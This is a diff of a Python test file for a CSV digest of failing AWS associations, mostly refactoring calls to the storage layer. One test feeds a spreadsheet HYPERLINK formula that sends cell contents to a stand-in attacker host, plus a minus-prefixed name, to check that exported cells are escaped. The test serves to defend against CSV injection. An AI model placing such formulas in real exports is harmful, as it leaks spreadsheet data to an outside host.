@@ -27,8 +27,8 @@ def test_rows_match_the_stored_failing_associations(
 ) -> None:
     run_sweep(settings=settings, access=sim.access(), store=store)
     now = utcnow()
-    acked = store.tracked(failing_only=True)[0]
-    store.acknowledge(
+    acked = store.associations.tracked(failing_only=True)[0]
+    store.acks.acknowledge(
         acked.key,
         by="U0OPS00001",
         reason="patch window Saturday",
@@ -38,8 +38,10 @@ def test_rows_match_the_stored_failing_associations(
 
     rows = _rows(digest_csv(build_digest(store, now)))
 
-    failing = {t.key.association_id: t for t in store.tracked(failing_only=True, now=now)}
-    assert len(failing) == len(store.scope_states()) * 3 > 1
+    failing = {
+        t.key.association_id: t for t in store.associations.tracked(failing_only=True, now=now)
+    }
+    assert len(failing) == len(store.sweeps.scope_states()) * 3 > 1
     assert [r["association_id"] for r in rows].count(acked.key.association_id) == 1
     assert {r["association_id"] for r in rows} == set(failing)
     assert rows[-1]["association_id"] == acked.key.association_id  # acknowledged ones last
@@ -69,11 +71,15 @@ def test_no_cell_becomes_a_spreadsheet_formula(sim: Sim, settings: Settings, sto
     failing.name = "-2-1"  # AWS allows names that start with a minus: a formula to a spreadsheet
     run_sweep(settings=settings, access=sim.access(), store=store)
     now = utcnow()
-    key = next(t.key for t in store.tracked() if t.key.association_id == failing.association_id)
+    key = next(
+        t.key
+        for t in store.associations.tracked()
+        if t.key.association_id == failing.association_id
+    )
     reason = '=HYPERLINK("http://evil.example/?"&A1,"details")'
-    store.acknowledge(key, by="U0OPS00001", reason=reason, until=None, now=now)
+    store.acks.acknowledge(key, by="U0OPS00001", reason=reason, until=None, now=now)
 
-    rows = _rows(failing_csv(store.tracked(failing_only=True, now=now)))
+    rows = _rows(failing_csv(store.associations.tracked(failing_only=True, now=now)))
 
     (row,) = [r for r in rows if r["association_id"] == failing.association_id]
     assert row["association_name"] == "'-2-1"
@@ -84,7 +90,7 @@ def test_no_cell_becomes_a_spreadsheet_formula(sim: Sim, settings: Settings, sto
 
 def test_only_failing_associations_are_written(sim: Sim, settings: Settings, store: Store) -> None:
     run_sweep(settings=settings, access=sim.access(), store=store)
-    everything = store.tracked()
+    everything = store.associations.tracked()
     assert any(not t.association.failing for t in everything)
 
     rows = _rows(failing_csv(everything))
